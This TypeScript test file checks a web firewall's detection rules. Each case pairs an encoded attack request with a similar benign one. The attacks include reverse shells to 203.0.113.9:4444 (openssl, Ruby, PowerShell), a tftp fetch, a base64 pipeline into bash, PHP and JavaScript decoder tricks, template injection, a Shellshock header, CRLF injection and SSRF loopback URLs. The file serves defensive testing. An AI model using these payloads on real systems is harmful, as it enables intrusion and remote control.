/**
 * Bundled rules of rev 2026-12-05u: mechanisms blind payload probe set 2 (994 requests, written before
 * it was measured) showed passing the full pipeline. Reverse shells through tools other than a shell, a
 * tftp fetch, a SUID search, brace-expanded pipelines into a shell, PHP decoder chains, JavaScript
 * reaching the Function constructor or evaluating decoded text, a Handlebars block over a string literal,
 * PROCEDURE ANALYSE, a FreeMarker data-model walk, a header value opening with `() {`, CRLF spelled as
 * Unicode low bytes, exposure probes (Jolokia, pprof, META-INF, key files), loopback URLs naming a
 * database or remote-login port or an admin path, and zero-padded loopback.
 * Each fires on its attack and stays quiet on the benign text closest to it.
 */
import { describe } from 'vitest';
import { form, header, json, q, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const CASES: RuleCase[] = [
  [9000336, 'block', 'openssl s_client piped to a shell', q('p=openssl%20s_client%20-quiet%20-connect%20203.0.113.9%3A4444%7C%2Fbin%2Fsh'), q('q=openssl+s_client+-connect+example.com%3A443+-showcerts')],
  [9000336, 'block', 'xterm displayed on an address', form('p=xterm+-display+203.0.113.9%3A1'), form('q=xterm+-display+settings')],
  [9000336, 'block', 'a Ruby socket to an address', json('{"p":"ruby -rsocket -e \'c=TCPSocket.new(\\"203.0.113.9\\",\\"4444\\")\'"}'), json('{"code":"sock = TCPSocket.new(host, port)"}')],
  [9000336, 'block', 'a PowerShell TCPClient to an address', q('p=%24c%3DNew-Object%20System.Net.Sockets.TCPClient%28%27203.0.113.9%27%2C4444%29'), q('q=System.Net.Sockets.TCPClient+timeout')],
  [9000337, 'block', 'a tftp fetch', q('p=%3Btftp%20-g%20-r%20x%20203.0.113.9'), q('q=tftp+server+windows')],
  [9000337, 'block', 'a SUID search', form('p=%3Bfind+%2F+-perm+-4000+2%3E%2Fdev%2Fnull'), form('q=find+%2Fhome+-name+%22*.txt%22')],
  [9000337, 'block', 'a brace-expanded pipeline into bash', q('p=%3B%7Becho%2CaWQ%3D%7D%7C%7Bbase64%2C-d%7D%7C%7Bbash%2C-i%7D'), q('q=%7Bred%2Cgreen%7D%7C%7Bblue%7D')],
  [9001348, 'block', 'gzinflate of base64_decode', q('p=gzinflate%28base64_decode%28%27S0ktLkksS0ktKklVBgA%3D%27%29%29'), q('q=php+gzinflate+vs+gzuncompress')],
  [9001348, 'block', 'a rot13-decoded function name called', form('p=str_rot13%28%27flfgrz%27%29%28%27vq%27%29'), form('code=echo+str_rot13%28%27uryyb%27%29%3B')],
  [9001348, 'block', 'pcntl_exec', form('p=pcntl_exec%28%27%2Fbin%2Fsh%27%29'), form('q=pcntl_fork+example')],
  [9001349, 'block', 'Reflect.construct of Function', q('p=Reflect.construct%28Function%2C%5B%27return%20process%27%5D%29%28%29'), q('q=Reflect.construct%28Date%2C+%5B2020%5D%29')],
  [9001349, 'block', 'eval of a base64 Buffer', json('{"p":"eval(Buffer.from(\'cmVxdWlyZQ==\',\'base64\').toString())"}'), json('{"code":"const b = Buffer.from(s, \'base64\'); evaluate(b)"}')],
  [9001349, 'block', 'a Handlebars with over a string literal', q('p=%7B%7B%23with%20%22s%22%20as%20%7Cstring%7C%7D%7D'), q('t=%7B%7B%23with+person+as+%7Cp%7C%7D%7D%7B%7Bp.name%7D%7D%7B%7B%2Fwith%7D%7D')],
  [9000195, 'block', 'PROCEDURE ANALYSE', form('p=1+procedure+analyse%28%29'), form('q=stored+procedure+to+analyse+sales')],
  [9000705, 'block', 'a FreeMarker list over .data_model', q('p=%3C%23list%20.data_model%3Fkeys%20as%20k%3E%24%7Bk%7D%3C%2F%23list%3E'), q('t=%3C%23list+items+as+item%3E%24%7Bitem.name%7D%3C%2F%23list%3E')],
  [9000905, 'block', 'a User-Agent opening with a function definition', header('User-Agent', '() { x() { _; }; x() { _; } <<a; }'), header('User-Agent', 'Mozilla/5.0 (compatible; () {} bot)')],
  [9001254, 'block', 'CRLF as U+010D U+010A before Set-Cookie', q('p=%c4%8d%c4%8aSet-Cookie:x=1'), q('q=%C4%8Desk%C3%BD+%C4%8Aa')],
  [9001408, 'block', 'Jolokia list', { url: '/jolokia/list' }, { url: '/docs/jolokia' }],
  [9001408, 'block', 'Go pprof', { url: '/debug/pprof/' }, { url: '/blog/debug-pprof-tips' }],
  [9001408, 'block', 'a META-INF file at the root', { url: '/META-INF/MANIFEST.MF' }, { url: '/webjars/jquery/3.7.1/jquery.min.js' }],
  [9001408, 'block', 'a DSA private key file', { url: '/backup/id_dsa' }, { url: '/users/id_dsa_guide' }],
  [9000524, 'block', 'a loopback URL on the SSH port', q('p=http%3A%2F%2F127.0.0.1%3A22%2F'), q('p=http%3A%2F%2F127.0.0.1%3A2222%2F')],
  [9000524, 'block', 'a loopback server-status', form('p=http%3A%2F%2Flocalhost%2Fserver-status'), form('p=http%3A%2F%2Flocalhost%3A3000%2Fstatus')],
  [9000524, 'block', 'an FTP URL to loopback', form('p=ftp%3A%2F%2F127.0.0.1%3A21%2F'), form('p=ftp%3A%2F%2Fftp.example.org%2Fpub%2F')],
  [9000528, 'block', 'zero-padded loopback', form('p=http%3A%2F%2F127.000.000.001%2F'), form('p=http%3A%2F%2F127.0.0.1%3A8080%2F')],
];

describe('bundled rules from blind payload probe set 2 (rev 2026-12-05u)', () => {
  testRuleCases(CASES, hits);
  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
